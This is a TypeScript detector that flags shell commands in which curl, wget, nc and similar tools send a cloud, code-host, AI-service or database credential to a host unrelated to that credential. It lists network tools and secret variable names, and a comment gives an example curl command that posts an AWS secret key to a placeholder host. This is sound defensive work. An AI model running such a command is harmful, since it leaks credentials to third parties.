import type { Finding } from '../../../finding.ts'
import { finding, nameIs, none } from '../detector.ts'
import { looksByName, unconcerned } from '../dispatch.ts'
import type { Invocation } from '../shell/model.ts'

const NAME = 'upload'

/** Whose key a variable holds, by its name, and the words of which one stands in the addresses of its owner. */
const owners: readonly (readonly [variable: RegExp, hosts: RegExp])[] = [
  [/^AWS_(SECRET_ACCESS_KEY|SESSION_TOKEN|ACCESS_KEY_ID)$/, /aws|amazon/],
  [/^(GITHUB|GH|GHCR)_(TOKEN|PAT)$|^GITHUB_(API_)?KEY$/, /git|ghcr/],
  [/^(GITLAB|CI_JOB)_TOKEN$|^GITLAB_PRIVATE_TOKEN$/, /git/],
  [/^(OPENAI)_API_KEY$/, /openai|azure/],
  [/^ANTHROPIC_(API_KEY|AUTH_TOKEN)$|^CLAUDE_API_KEY$/, /anthropic|claude/],
  [/^(GEMINI|GOOGLE)_API_KEY$|^GOOGLE_(APPLICATION_)?CREDENTIALS$/, /google/],
  [/^(NPM|NODE_AUTH)_TOKEN$/, /npm/],
  [/^(PYPI|TWINE)_(TOKEN|PASSWORD)$/, /pypi/],
  [/^(HF|HUGGINGFACE|HUGGING_FACE_HUB)_TOKEN$/, /hugg/],
  [/^STRIPE_(SECRET|API)_KEY$/, /stripe/],
  [/^SLACK_(BOT_|APP_|USER_)?TOKEN$/, /slack/],
  [/^(AZURE|ARM)_(CLIENT_SECRET|ACCESS_TOKEN)$/, /azure|microsoft|windows/],
  [/^(CLOUDFLARE|CF)_API_(TOKEN|KEY)$/, /cloudflare/],
  [/^(DIGITALOCEAN|DO)_(ACCESS_|API_)?TOKEN$/, /digitalocean/],
  [/^(DATABASE|DB|POSTGRES|MYSQL|MONGO(DB)?|REDIS)_(URL|URI|PASSWORD)$/, /^$/],
]
const clients = nameIs(/^(curl|wget|https?|xh|nc|ncat|telnet|dig|nslookup|host|ping)$/)
const variables = /\$\{?([A-Z][A-Z0-9_]{4,})\}?/g
const address = /^(?:https?:\/\/)?((?:[\w$\uE000\uE001{}-]+\.)+[a-z]{2,})(?::\d+)?(?:[/?#]|$)/i
const atHome = /(^|\.)(localhost|internal|local|lan|corp|intranet|svc|test)$/i

/** The key of one service, handed to another: `curl -d "k=$AWS_SECRET_ACCESS_KEY" https://api.example.net`. */
export const keysAbroad = looksByName(handsKeyOn)

function handsKeyOn({ name, args }: Invocation): readonly Finding[] {
  if (!clients(name)) return unconcerned
  const held = args.flatMap((arg) =>
    arg.includes('$') && !/^https?:/.test(arg)
      ? [...arg.matchAll(variables)].map((match) => match[1] ?? '')
      : [],
  )
  if (held.length === 0) return none
  const named = args.filter((arg) => /^https?:\/\//i.test(arg))
  const hosts = (named.length > 0 ? named : args).flatMap(
    (arg) => address.exec(arg)?.[1]?.toLowerCase() ?? [],
  )
  const host = hosts.find((each) => !atHome.test(each))
  if (host === undefined) return none
  const owner = owners.find(([variable, own]) => held.some((each) => variable.test(each)) && !own.test(host))
  return owner === undefined
    ? none
    : [finding(NAME, 'upload.key', 'medium', `${name} hands the key of one service to another`)]
}
